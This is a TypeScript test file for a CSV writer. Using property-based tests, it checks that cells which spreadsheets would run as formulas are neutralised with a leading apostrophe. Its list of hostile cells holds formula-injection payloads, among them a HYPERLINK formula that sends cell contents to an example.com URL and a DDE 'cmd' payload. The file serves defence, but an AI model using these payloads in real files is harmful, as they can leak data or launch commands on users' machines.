import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { type CsvCell, inertText, toCsv } from "./csv";

/** A reader of RFC 4180 of our own, so that the writer is not judged by its own library. */
function readCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let rest = text;
	while (rest !== "") {
		const quoted = /^"((?:[^"]|"")*)"/.exec(rest);
		const plain = /^[^",\r\n]*/.exec(rest);
		row.push(quoted?.[1]?.replaceAll('""', '"') ?? plain?.[0] ?? "");
		rest = rest.slice((quoted ?? plain)?.[0].length);
		if (rest.startsWith(",")) {
			rest = rest.slice(1);
			if (rest === "") row.push("");
		} else {
			if (!rest.startsWith("\r\n")) throw new Error(`neither comma nor CRLF at ${JSON.stringify(rest)}`);
			rest = rest.slice(2);
			rows.push(row);
			row = [];
		}
	}
	return rows;
}

const BOM = "\uFEFF";
const read = (rows: CsvCell[][]) => readCsv(toCsv(rows).slice(BOM.length));

test("begins with the byte order mark, ends its rows in CRLF, quotes text and not numbers", () => {
	expect(
		toCsv([
			["出席番号", "ニックネーム"],
			[1, '"い", ろ'],
			[null, ""],
			[-0.5, "a\nb"],
		]),
	).toBe(`${BOM}"出席番号","ニックネーム"\r\n1,"""い"", ろ"\r\n,""\r\n-0.5,"a\nb"\r\n`);
	expect(toCsv([])).toBe(BOM);
});

describe("a cell that a spreadsheet would run", () => {
	const HOSTILE = [
		"=1+1",
		"+1",
		"-1",
		"@SUM(A1)",
		"\0=1",
		"\0x",
		"\tx",
		"\rx",
		"\nx",
		"＝1+1",
		"＋1",
		"－1",
		"＠a",
		"﹦1",
		"₊1",
		"⁼1",
		"−1",
		" =1",
		"\u3000＝1",
		"\u00a0=1",
		"\u200b=1",
		"\u202e=1",
		`"=1"`,
		"'=1",
		"” =1",
		`=HYPERLINK("http://example.com?"&A1,"見る")`,
		"=cmd|' /C calc'!A0",
	];

	test.each(HOSTILE)("begins with an apostrophe: %j", (text) => {
		expect(read([[text]])).toEqual([[`'${text}`]]);
	});

	test.each([
		["b;=1+1;c", "b;'=1+1;c"],
		["b; ＝1;-1", "b;' ＝1;'-1"],
		["b\t=1", "b\t'=1"],
		["b\r\n=1\n@a", "b\r\n'=1\n'@a"],
		["\t=1", "'\t'=1"],
		["=1;=1", "'=1;'=1"],
	])("has one wherever another separator begins it: %j", (text, inert) => {
		expect(read([[text]])).toEqual([[inert]]);
	});

	test.each([
		"1-1",
		"a=b",
		"a,=b",
		"a; b",
		"いち\nに",
		"太郎@学校",
		"はい−いいえ",
		"'24",
		"",
		" ",
		"（=）",
		"3",
	])("is not %j", (text) => {
		expect(read([[text]])).toEqual([[text]]);
	});

	test("is no number, whatever its sign; what is no number is empty", () => {
		expect(read([[-1, -0.25, 1e-7, 1e21, 0, -0, Number.NaN, Number.NEGATIVE_INFINITY]])).toEqual([
			["-1", "-0.25", "1e-7", "1e+21", "0", "0", "", ""],
		]);
	});
});

describe("whatever the cells", () => {
	const hostile = fc
		.array(fc.constantFrom(..." \t\r\n\0\u3000\u200b\"'=+-@＝＋－＠﹣−,;|a漢"), { maxLength: 8 })
		.map((characters) => characters.join(""));
	const text = fc.oneof(hostile, fc.string({ unit: "grapheme" }), fc.string({ unit: "binary" }));
	const number = fc.double({ noNaN: true, noDefaultInfinity: true });
	const table = fc
		.integer({ min: 1, max: 5 })
		.chain((width) =>
			fc.array(fc.array(fc.oneof(text, number, fc.constant(null)), { minLength: width, maxLength: width })),
		);

	test("a reader gets them back, but for the apostrophes", () => {
		fc.assert(
			fc.property(table, (rows) => {
				const expected = rows.map((row) =>
					row.map((cell) => (typeof cell === "string" ? inertText(cell) : cell === null ? "" : `${cell}`)),
				);
				expect(read(rows)).toEqual(expected);
			}),
		);
	});

	test("no text is changed but by apostrophes, and no cell of it stays active however it is split", () => {
		fc.assert(
			fc.property(fc.oneof(hostile, text), (cell) => {
				const inert = inertText(cell);
				expect(inert.replaceAll("'", "")).toBe(cell.replaceAll("'", ""));
				expect(inert).not.toMatch(/^[\t\r\n\0]/);
				for (const piece of inert.split(/[;\t\r\n]/)) {
					// Spelt out otherwise than in the code: what comes first, blanks and what is not seen aside.
					const first = [...piece].find((character) => !/[\s\p{C}]/u.test(character)) ?? "";
					expect(first.normalize("NFKC").replace("−", "-")).not.toMatch(/^[=+@-]$/);
				}
			}),
			{ numRuns: 1000 },
		);
	});
});

test("a long text of blanks and separators is gone through once: this would otherwise not end", () => {
	for (const character of [" ", "\t", ";", "'", "\n"]) {
		const long = character.repeat(300_000);
		expect(inertText(long).replaceAll("'", "")).toBe(long.replaceAll("'", ""));
		expect(inertText(`;${character}`.repeat(150_000)).startsWith(";")).toBe(true);
	}
});
